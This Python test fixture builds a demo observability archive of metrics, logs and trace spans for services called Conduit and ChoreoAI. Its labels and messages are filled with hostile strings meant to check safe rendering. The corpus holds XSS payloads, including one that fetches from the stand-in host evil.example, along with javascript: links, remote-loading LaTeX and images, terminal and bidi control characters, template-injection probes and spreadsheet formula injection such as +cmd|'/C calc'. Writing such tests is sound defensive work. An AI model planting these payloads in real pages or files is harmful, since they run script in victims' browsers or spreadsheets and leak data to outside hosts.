"""Text that would like to act: markup, links, formulas, images, control characters, lengths, in every kind of data."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd

from workbench.archive import Archive
from workbench.core.series import SeriesSet
from workbench.core.timerange import to_ms

#: Nothing may ask this host, link to it, or set ``window.pwned``.
HOST = "evil.example"

CORPUS = (
    f'<img src="http://{HOST}/a.png" onerror="window.pwned=1">',
    f"<script>window.pwned=1;fetch('http://{HOST}/s')</script>",
    f"![x](http://{HOST}/b.png) [click](javascript:window.pwned=1) [go](http://{HOST})",
    f"http://{HOST}/bare www.{HOST} mailto:a@{HOST}",
    f"<svg/onload=window.pwned=1><a href='http://{HOST}'>a</a><iframe src='http://{HOST}'></iframe>",
    r"$\href{http://evil.example}{x}$ $$\includegraphics{http://evil.example/c.png}$$ \(x\)",
    ":red[loud] :material/home: :smile: :blue-badge[x] `code` **bold** ~~s~~ ==m==",
    "# heading\n- item\n> quote\n| a | b |\n|---|---|\n```\nfence",
    "\x1b[31mred\x1b]0;title\x07 \u202eesrever\u202c \u2066iso\u2069 \ufeff \x00 \x9b1m \u200f",
    "{{7*7}} ${7*7} #{7*7} %s %(x)s {0} {x!r}",
    "=HYPERLINK(\"http://evil.example\") +cmd|'/C calc'!A0 @SUM(1)",
    f"<b style='background:url(http://{HOST}/d.png)'>{'w' * 100_000}",
)


def build_hostile(folder: Path, newest: datetime) -> Path:
    """Write an archive of Conduit and ChoreoAI whose labels, lines and spans are the corpus; return its folder."""
    archive = Archive.open(folder / "demo", create=True)
    archive.append_samples(SeriesSet.of(list(_series(newest))))
    archive.append_logs(_lines(newest))
    archive.append_spans(_spans(newest))
    return folder / "demo"


def _series(newest: datetime) -> Iterator[tuple[dict[str, str], np.ndarray, np.ndarray]]:
    minutes = np.arange(288 + 1)
    times = to_ms(newest - timedelta(days=1)) + minutes * 300_000
    for number, text in enumerate(CORPUS):
        spike = np.where((minutes > 200) & (minutes < 210), 40.0, 1.0)
        counted, value = np.cumsum(spike) * (number + 1), text[:2_000] if number % 2 else text
        own = {"system": "conduit", "job": "conduit", "instance": "a:1"}
        labels = {
            "conduit_model_requests_total": {"model": value, "provider": value, "status": "success"},
            "conduit_model_tokens_total": {"model": value, "provider": value, "token_type": "prompt"},
            "conduit_cost_total_dollars": {"model": value, "provider": value, "operation_type": "completion"},
            "conduit_virtualkey_requests_total": {"virtual_key_id": value, "model": value, "status": "error"},
            "conduit_virtualkey_spend_total": {"virtual_key_id": value},
            "conduit_http_requests_total": {"method": "GET", "endpoint": value, "status_code": "500"},
            "conduit_cache_hits_total": {"region": value},
        }
        for name, more in labels.items():
            yield {"__name__": name, **own, **more}, times, counted
        gauges = {"conduit_virtualkey_budget_utilization_percent": "virtual_key_id",
                  "conduit_rabbitmq_queue_messages": "queue"}  # fmt: skip
        for name, label in gauges.items():
            yield {"__name__": name, **own, label: value}, times, 40 + minutes / 12
        alert = {"alertname": value, "alertstate": "firing", "severity": "critical", "service": value}
        yield {"__name__": "ALERTS", **own, **alert}, times[-60:], np.ones(60)
    yield {"__name__": "up", "system": "conduit", "job": "conduit", "instance": "a:1"}, times, np.ones(len(times))


def _lines(newest: datetime) -> pd.DataFrame:
    at = to_ms(newest) * 1_000_000 - np.arange(len(CORPUS) * 20) * 60_000_000_000
    rows = [
        {"time_ns": int(time), "severity": "ERROR", "message": CORPUS[row % len(CORPUS)], "service": "choreoai",
         "trace_id": f"{row % len(CORPUS) + 1:032x}", "span_id": f"{row + 1:016x}", "event_type": CORPUS[6],
         "attributes": {"user": CORPUS[row % len(CORPUS)][:500]}}
        for row, time in enumerate(at)
    ]  # fmt: skip
    return pd.DataFrame(rows).sort_values("time_ns", ignore_index=True)


def _spans(newest: datetime) -> pd.DataFrame:
    begin = to_ms(newest) * 1_000_000 - 3_600_000_000_000
    rows = [
        {"trace_id": f"{row + 1:032x}", "span_id": f"{row * 2 + part + 1:016x}",
         "parent_id": f"{row * 2 + 1:016x}" if part else "", "service": "choreoai", "operation": text[:3_000],
         "kind": "client" if part else "server", "start_ns": begin + row * 1_000_000_000 + part * 1_000_000,
         "duration_ns": 900_000_000 - part * 100_000_000, "status": "error", "weight": 1.0,
         "attributes": {"provider": text[:500], "http.route": text[:500]}}
        for row, text in enumerate(CORPUS) for part in (0, 1)
    ]  # fmt: skip
    return pd.DataFrame(rows)
